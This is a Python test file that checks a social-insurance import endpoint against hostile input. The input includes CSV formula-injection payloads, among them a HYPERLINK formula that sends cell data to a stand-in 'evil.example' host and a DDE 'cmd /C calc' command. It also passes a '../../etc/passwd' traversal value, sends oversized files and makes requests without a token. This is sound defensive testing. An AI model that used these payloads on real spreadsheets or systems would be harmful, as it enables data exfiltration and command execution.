"""Hostile input against the import's template and error workbook: formula cells sent back, huge files
asking for an error workbook, other regions' ID numbers, odd ``errors=`` values, no token."""
from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from infra.limits import IMPORT_SHEET
from tests.unit.http_support import (
    CLERK,
    HANBIN,
    HANYIN,
    client,  # noqa: F401  (fixture)
    event_count,
    number,
    system,  # noqa: F401  (fixture)
)

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"点此查看")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1"]


def csv_bytes(header: list[str], rows: list[list]) -> bytes:
    lines = [",".join(header)] + [",".join(str(v) for v in r) for r in rows]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8-sig")


def xml_of(workbook: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


def test_formula_cells_come_back_as_text_in_the_error_workbook(hostile, client, system):
    header = ["姓名", "证件号码", "险种", "参保地", "参保日期", "备注"]
    rows = [[f, number(200 + i), "城乡居民", HANBIN, "bad-date", f] for i, f in enumerate(FORMULAS)]
    # every cell quoted: the formulas hold commas and quotes
    data = ("\r\n".join([",".join(header)] + [",".join(f'"{str(c).replace(chr(34), 2 * chr(34))}"' for c in r)
                                               for r in rows]) + "\r\n").encode("utf-8-sig")
    before = event_count(system)
    r = client.post("/imports", params={"errors": "xlsx"}, files={"file": ("evil.csv", data)}, headers=CLERK)
    book = load_workbook(io.BytesIO(r.content))
    cells = [c for row in book["错误行"].iter_rows() for c in row if c.value is not None]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    hostile.attempt("formula cells (=HYPERLINK, +cmd, @SUM) sent to the error workbook", status=r.status_code,
                    written=event_count(system) != before, leaked=bool(formulas) or "<f>" in xml_of(r.content))
    assert r.status_code == 200 and formulas == []
    got = [[c.value for c in row] for row in book["错误行"].iter_rows(min_row=2)]
    assert len(got) == len(FORMULAS)
    for sent, row in zip(FORMULAS, got):
        assert row[0] == "'" + sent and row[5] == "'" + sent  # visible as typed, never run


def test_a_formula_name_in_the_error_text_does_not_start_a_formula(hostile, client, system):
    header = ["姓名", "证件号码", "险种", "参保地", "参保日期"]
    data = csv_bytes(header, [["王芳", number(210), "=1+1", HANBIN, "2024-09-10"]])
    r = client.post("/imports", params={"errors": "xlsx"}, files={"file": ("a.csv", data)}, headers=CLERK)
    book = load_workbook(io.BytesIO(r.content))
    row = [c for c in next(book["错误行"].iter_rows(min_row=2))]
    hostile.attempt("formula as the scheme, echoed in 错误说明", status=r.status_code,
                    leaked=any(c.data_type == "f" for c in row))
    assert row[2].value == "'=1+1" and row[-1].value.startswith("第2行：") and "SCHEME_UNKNOWN" in row[-1].value


def test_a_huge_file_asking_for_an_error_workbook_is_still_refused(hostile, client, system):
    body = "姓名,证件号码,险种,参保地,参保日期\r\n" + "王,1,城乡居民,610902,x\r\n" * (IMPORT_SHEET.max_rows + 1)
    before = event_count(system)
    r = client.post("/imports", params={"errors": "xlsx", "filename": "big.csv"}, content=body.encode(),
                    headers={**CLERK, "Content-Type": "text/csv"})
    hostile.attempt("100,001-row CSV with ?errors=xlsx", status=r.status_code, written=event_count(system) != before)
    assert (r.status_code, r.json()["code"]) == (413, "FILE_TOO_MANY_ROWS")


def test_other_regions_id_numbers_are_masked_in_the_error_workbook(hostile, client, system):
    theirs = number(220, region=HANYIN)
    header = ["姓名", "证件号码", "险种", "参保地", "参保日期"]
    data = csv_bytes(header, [["李四", theirs, "城乡居民", HANYIN, "2024-09-10"]])
    r = client.post("/imports", params={"errors": "xlsx"}, files={"file": ("a.csv", data)}, headers=CLERK)
    hostile.attempt("another region's ID numbers through the error workbook", status=r.status_code,
                    written=event_count(system) != 0, leaked=theirs in xml_of(r.content))
    assert r.headers["x-import-errors"] == "1" and theirs[-4:] in xml_of(r.content)


def test_unknown_errors_format_and_no_token_are_refused(hostile, client, system):
    data = csv_bytes(["姓名", "证件号码", "险种", "参保地", "参保日期"],
                     [["王芳", number(230), "城乡居民", HANBIN, "2024-09-10"]])
    r = client.post("/imports", params={"errors": "../../etc/passwd"}, files={"file": ("a.csv", data)},
                    headers=CLERK)
    hostile.attempt("?errors=../../etc/passwd", status=r.status_code, written=event_count(system) != 0)
    assert r.status_code == 422
    for path in ("/imports/template.xlsx", "/imports/template.csv"):
        anonymous = client.get(path)
        hostile.attempt(f"GET {path} without a token", status=anonymous.status_code)
        assert anonymous.status_code == 401
